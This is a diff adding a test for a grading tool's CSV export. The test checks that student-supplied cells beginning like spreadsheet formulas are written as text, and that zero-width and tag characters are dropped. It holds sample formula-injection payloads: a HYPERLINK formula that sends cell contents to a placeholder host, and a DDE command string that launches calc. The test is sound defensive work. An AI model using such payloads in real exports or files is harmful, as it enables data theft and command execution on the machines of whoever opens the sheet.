@@ -93,6 +93,23 @@ def test_csv_output_has_one_line_per_item(tmp_path: Path) -> None:
     assert out[0]["points"] == "2" and out[0]["max_points"] == "2"
 
 
+def test_csv_output_never_holds_a_formula_a_spreadsheet_would_run(tmp_path: Path) -> None:
+    """The student column, and feedback quoting an answer, come from students: a cell that
+    starts like a formula is written as text, as the exports write it."""
+    formulas = ['=HYPERLINK("http://example.invalid/?"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0",
+                "+1+1", "-2+3"]
+    rows = [[f, "stack", f] for f in formulas] + [["ann\u200b\U000e0041", "stack", "LIFO"]]
+    done = _grade_table(tmp_path, rows, "--format", "csv")
+    out = list(csv.reader(io.StringIO(done.stdout)))[1:]
+    assert len(out) == len(rows)
+    for cells in out:
+        assert not any(c.startswith(("=", "+", "@")) for c in cells), cells
+        assert all(not c.startswith("-") or c.lstrip("-").replace(".", "").isdigit()
+                   for c in cells), cells
+    assert out[0][0].startswith("'=HYPERLINK")
+    assert out[-1][0] == "ann"  # zero-width and tag characters are not kept
+
+
 def test_hostile_rows_are_bounded_and_reviewed(tmp_path: Path) -> None:
     huge = "last in first out " * 5000  # 90,000 characters in one cell
     controls = "LIFO\x00\x07 order"
